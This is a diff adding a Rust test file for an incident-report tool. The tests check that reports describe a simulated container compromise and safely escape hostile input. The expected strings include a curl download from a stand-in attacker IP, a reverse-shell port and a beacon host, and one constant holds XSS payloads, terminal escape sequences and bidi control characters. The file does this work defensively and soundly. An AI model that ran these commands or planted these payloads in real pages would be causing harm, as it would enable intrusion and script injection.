@@ -1,0 +1,252 @@
+//! The report on the made-up incident, and on one whose every text attacks the page.
+
+mod support;
+
+use std::os::unix::fs::FileExt as _;
+use support::{incident, open, wait};
+use taffrail_query::report::Report;
+use taffrail_trace::fixture::{self, HOSTILE};
+use taffrail_trace::schema::{FILE, Kind, Table};
+use taffrail_trace::table::{Cell, Tables};
+use taffrail_trace::{bundle, schema};
+
+/// What a page, a terminal or a Markdown reader might take for its own.
+const EVIL: &str = "</code><script>alert(1)</script><img src=x onerror=alert(1)>\u{1b}[31m\u{202e}\u{200b}`x`|](javascript:x)\r\n# h\u{9b}2J";
+
+fn report() -> Report {
+    let (_dir, session) = incident();
+    wait(Report::of(&session)).expect("a report")
+}
+
+#[test]
+fn the_page_tells_the_incident() {
+    let page = report().html();
+    for told in [
+        "reverse_shell",
+        "a shell has a network connection as its standard input",
+        "curl -so /tmp/.part http://198.51.100.7/x",
+        "198.51.100.7:4444",
+        "beacon.example",
+        "/var/tmp/.c/log",
+        "signal 9",
+    ] {
+        assert!(page.contains(told), "{told}");
+    }
+    assert!(page.contains("3 events"), "what is missing is in the summary");
+    assert!(page.contains(&"ab".repeat(32)), "the implant's digest is an indicator");
+}
+
+#[test]
+fn the_page_needs_nothing_and_runs_nothing() {
+    let page = report().html();
+    assert!(page.contains("default-src 'none'"));
+    for forbidden in
+        ["<script", "javascript:", "src=", "href=", "url(", "@import", "<link", "<iframe", "<img", "onload"]
+    {
+        assert!(!page.contains(forbidden), "{forbidden}");
+    }
+}
+
+#[test]
+fn the_branch_that_a_rule_named_is_marked_and_its_neighbours_are_not() {
+    let page = report().html();
+    let process = |command: &str| {
+        let at = page.find("class=\"tree\"").expect("a tree");
+        let at = at + page[at..].find(command).unwrap_or_else(|| panic!("{command} is not in the tree"));
+        let begin = page[..at].rfind("<div class=\"process").expect("a process");
+        page[begin..at].split('"').nth(1).expect("a class").to_owned()
+    };
+    assert_eq!(process("<code class=\"hostile\">/tmp/.x<"), "process hostile");
+    assert_eq!(process("httpd -f -p 8080"), "process led");
+    assert_eq!(process("dockerd -H fd://"), "process led");
+}
+
+#[test]
+fn a_report_made_before_the_bundle_has_its_name_tells_of_it_by_that_name() {
+    let page = report().named("web-1.evidence.zip").html();
+    assert!(page.contains("taffrail verify web-1.evidence.zip"), "as the commands have it");
+}
+
+#[test]
+fn a_report_made_while_the_bundle_is_sealed_says_nothing_of_its_seal() {
+    let (dir, session) = incident();
+    let bundle = &session.bundles()[0];
+    let tables = bundle.members().iter().filter(|(name, _)| name.starts_with("events/"));
+    let members: Vec<(&str, Vec<u8>)> = tables
+        .map(|(name, member)| {
+            let mut bytes = vec![0; member.len as usize];
+            bundle.file().read_exact_at(&mut bytes, member.offset).expect("its bytes");
+            (name.as_str(), bytes)
+        })
+        .collect();
+    let unsealed = support::crafted(dir.path(), &members);
+    let page = wait(Report::of(&open(&[unsealed]).expect("a session"))).expect("a report").html();
+    assert!(page.contains("beacon.example") && !page.contains("When this report was made"));
+    assert!(report().html().contains("every member of the bundle had the digest"));
+}
+
+#[test]
+fn the_markdown_tells_the_same() {
+    let text = report().markdown();
+    for told in [
+        "# Evidence: `web`",
+        "## What happened",
+        "**`/tmp/.x`**",
+        "198.51.100.7:4444",
+        "beacon.example",
+        "taffrail verify",
+    ] {
+        assert!(text.contains(told), "{told}\n{text}");
+    }
+}
+
+#[test]
+fn nothing_of_a_trace_reaches_a_page_as_anything_but_text() {
+    let dir = tempfile::tempdir().expect("a directory");
+    let (mut manifest, _) = fixture::incident();
+    for text in [
+        &mut manifest.container.name,
+        &mut manifest.container.id,
+        &mut manifest.host.hostname,
+        &mut manifest.host.kernel,
+        &mut manifest.host.arch,
+        &mut manifest.trigger.reason,
+        &mut manifest.trigger.rule,
+        &mut manifest.tool,
+        &mut manifest.id,
+    ] {
+        *text = EVIL.to_owned();
+    }
+    manifest.container.image = Some(EVIL.to_owned());
+    manifest.container.image_digest = Some(EVIL.to_owned());
+    manifest.hooks[1].name = EVIL.to_owned();
+    manifest.hooks[1].state = EVIL.to_owned();
+    manifest.hooks[1].reason = Some(EVIL.to_owned());
+    let list = vec![EVIL.to_owned()];
+    let mut tables = Tables::default();
+    for table in schema::TABLES {
+        // Several of each, so that every list of the report has its row.
+        for (op, direction) in [
+            ("connect", "typed"),
+            ("accept", "printed"),
+            ("create", "typed"),
+            ("rename", "printed"),
+            ("query", "typed"),
+        ] {
+            tables.of(table).expect("a table").push(&evil(table, op, direction, &list)).expect("a row");
+        }
+    }
+    let path = dir.path().join("<title><script>.evidence.zip");
+    bundle::write(&path, &manifest, tables).expect("a bundle");
+    let session = open(&[path]).expect("a session");
+    let report = wait(Report::of(&session)).expect("a report");
+
+    let page = report.html();
+    assert!(page.contains("&lt;script&gt;alert(1)"), "the texts are there, as texts");
+    for forbidden in ["<script", "<img", "</code><script", "\u{1b}", "\u{202e}", "\u{200b}", "\u{9b}", "\r"] {
+        assert!(!page.contains(forbidden), "{forbidden:?}");
+    }
+    let opened = page.matches("<code").count();
+    assert_eq!(opened, page.matches("</code>").count(), "no text closes what it stands in");
+
+    let text = report.markdown();
+    assert!(!text.chars().any(|ch| ch.is_control() && ch != '\n'), "no control character");
+    assert!(!text.contains('\u{202e}') && !text.contains('\u{200b}'));
+    for (number, line) in text.lines().enumerate() {
+        assert!(!line.starts_with("# h"), "line {number}: {line}");
+        assert!(outside_code(line).find('<').is_none(), "line {number}: {line}");
+    }
+}
+
+/// A line without its code spans, for a fence of any length; a code block's lines have none and are judged by their fence.
+fn outside_code(line: &str) -> String {
+    if !line.contains('`') && !line.starts_with(['-', '|', '#', '*']) {
+        return String::new();
+    }
+    let (mut out, mut rest) = (String::new(), line);
+    while let Some(at) = rest.find('`') {
+        out.push_str(&rest[..at]);
+        let fence = rest[at..].len() - rest[at..].trim_start_matches('`').len();
+        let after = &rest[at + fence..];
+        let mut end = None;
+        let mut from = 0;
+        while let Some(run) = after[from..].find('`').map(|run| from + run) {
+            let length = after[run..].len() - after[run..].trim_start_matches('`').len();
+            if length == fence {
+                end = Some(run + length);
+                break;
+            }
+            from = run + length;
+        }
+        rest = end.map_or("", |end| &after[end..]);
+    }
+    out + rest
+}
+
+fn evil<'a>(table: &Table, op: &'a str, direction: &'a str, list: &'a [String]) -> Vec<Cell<'a>> {
+    let time = 1_773_478_810_000_000_000;
+    table
+        .all_columns()
+        .map(|column| match column.name {
+            "op" => Cell::Text(if table.name == "file" && op == "connect" { "io" } else { op }),
+            "direction" if table.name == "terminal" => Cell::Text(direction),
+            "origin" => Cell::Text("exec"),
+            "severity" => Cell::Text("critical"),
+            "exec_id" | "process_id" => Cell::U64(7),
+            "parent_exec_id" => Cell::U64(7),
+            _ => match column.kind {
+                Kind::Text => Cell::Text(EVIL),
+                Kind::TextList => Cell::TextList(list),
+                Kind::Time => Cell::Time(time),
+                Kind::Bool => Cell::Bool(true),
+                Kind::U16 => Cell::U16(9),
+                Kind::U32 => Cell::U32(9),
+                Kind::U64 => Cell::U64(9),
+                Kind::I32 => Cell::I32(0),
+                Kind::I64 => Cell::I64(0),
+                Kind::Binary => Cell::Binary(HOSTILE.as_bytes()),
+            },
+        })
+        .collect()
+}
+
+#[test]
+fn a_bundle_without_findings_or_events_has_a_report() {
+    let dir = tempfile::tempdir().expect("a directory");
+    let (mut manifest, _) = fixture::incident();
+    manifest.trigger.rule = "manual".to_owned();
+    let path = dir.path().join("quiet.evidence.zip");
+    bundle::write(&path, &manifest, Tables::default()).expect("a bundle");
+    let report = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report");
+    assert!(report.html().contains("a person asked for the evidence"));
+    assert!(report.markdown().contains("nothing that is known of"));
+}
+
+#[test]
+fn a_report_of_very_many_events_stays_small_and_says_what_it_left_out() {
+    let dir = tempfile::tempdir().expect("a directory");
+    let (manifest, _) = fixture::incident();
+    let mut tables = Tables::default();
+    for index in 0..20_000_u64 {
+        let text = format!("/srv/{index}");
+        let cells: Vec<Cell<'_>> = FILE
+            .all_columns()
+            .map(|column| match column.name {
+                "time" => Cell::Time(1_773_478_810_000_000_000 + index as i64),
+                "op" => Cell::Text("create"),
+                "path" => Cell::Text(&text),
+                "exec_id" => Cell::U64(index),
+                "container_id" | "container_name" | "path_source" | "flags" => Cell::Text("web"),
+                "other_mounts" | "made_executable" => Cell::Bool(false),
+                "result" => Cell::I32(0),
+                _ => Cell::Null,
+            })
+            .collect();
+        tables.of(&FILE).expect("a table").push(&cells).expect("a row");
+    }
+    let path = dir.path().join("many.evidence.zip");
+    bundle::write(&path, &manifest, tables).expect("a bundle");
+    let page = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report").html();
+    assert!(page.contains("and 19\u{202f}950 more changes"));
+    assert!(page.len() < 100_000, "{}", page.len());
+}
